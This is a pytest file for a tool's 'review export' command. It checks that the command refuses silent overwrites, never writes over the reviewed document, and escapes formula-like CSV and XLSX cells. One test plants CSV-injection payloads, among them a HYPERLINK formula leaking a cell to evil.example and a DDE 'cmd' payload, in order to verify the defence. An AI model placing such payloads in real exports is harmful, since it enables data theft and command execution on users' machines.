"""``tilepilot review export RUN --to FILE``: no silent overwrite, never the reviewed document, and CSV cells that a
spreadsheet would run as formulas stay text."""

from __future__ import annotations

import csv
import io
import json
import shutil
from pathlib import Path

import pytest

from tests.agents.review.conftest import CONTRACT_RULES
from tests.conftest import tilepilot
from tests.gen.office import contract_docx
from tests.requires import require_binary


@pytest.fixture(scope="module")
def pdf_run(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    from tests.gen.pdfs import mixed_corpus

    base = tmp_path_factory.mktemp("review-export")
    pdf = base / "contract.pdf"
    mixed_corpus(pdf, 3, plant={2: ["Contact jane.roe@example.com for notices."]})
    run = base / "run"
    tilepilot("review", str(pdf), "--rules", CONTRACT_RULES, "--no-model", "--out", str(run), check=True)
    return pdf, run


def _one_line(proc) -> str:
    lines = proc.stderr.strip().splitlines()
    assert proc.returncode == 2 and len(lines) == 1, proc.stderr
    return lines[0]


def test_an_existing_file_needs_force(pdf_run, tmp_path: Path) -> None:
    _, run = pdf_run
    to = tmp_path / "findings.csv"
    to.write_text("my own spreadsheet")
    assert "exists; pass --force to replace it" in _one_line(tilepilot("review", "export", str(run), "--to", str(to)))
    assert to.read_text() == "my own spreadsheet"
    proc = tilepilot("review", "export", str(run), "--to", str(to), "--force")
    assert proc.returncode == 0, proc.stderr
    assert to.read_text().startswith("document,id,rule")


def test_the_reviewed_word_file_is_never_the_output(tmp_path: Path) -> None:
    require_binary("soffice", "libreoffice-writer-nogui")
    docx = contract_docx(tmp_path / "contract.docx", pii_at=5, liability_at=3)
    original = docx.read_bytes()
    run = tmp_path / "run"
    tilepilot("review", str(docx), "--rules", CONTRACT_RULES, "--no-model", "--out", str(run), check=True)
    (tmp_path / "alias.docx").symlink_to(docx)
    for to in (docx, tmp_path / "alias.docx"):
        line = _one_line(tilepilot("review", "export", str(run), "--to", str(to), "--force"))
        assert f"--to {to}: is a document this run reviewed" in line, line
    assert docx.read_bytes() == original


def test_csv_cells_that_look_like_formulas_stay_text(pdf_run, tmp_path: Path) -> None:
    from openpyxl import load_workbook

    _, source = pdf_run
    run = tmp_path / "run"
    shutil.copytree(source, run)
    data = json.loads((run / "findings.json").read_text())
    planted = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1+1"]
    findings = data["documents"][0]["findings"]
    for finding, text in zip(findings * len(planted), planted):
        finding = dict(finding, rationale=text)
        findings.append(finding)
    (run / "findings.json").write_text(json.dumps(data))
    for suffix in ("csv", "xlsx"):
        assert tilepilot("review", "export", str(run), "--to", str(tmp_path / f"f.{suffix}")).returncode == 0
    rows = list(csv.reader(io.StringIO((tmp_path / "f.csv").read_bytes().decode("utf-8"), newline="")))
    rationales = [row[rows[0].index("rationale")] for row in rows[1:]]
    for text in planted:
        assert "'" + text in rationales, (text, rationales)
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)
    sheet = load_workbook(tmp_path / "f.xlsx").active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value in planted]
    assert len(cells) == len(planted) and all(cell.data_type == "s" for cell in cells)
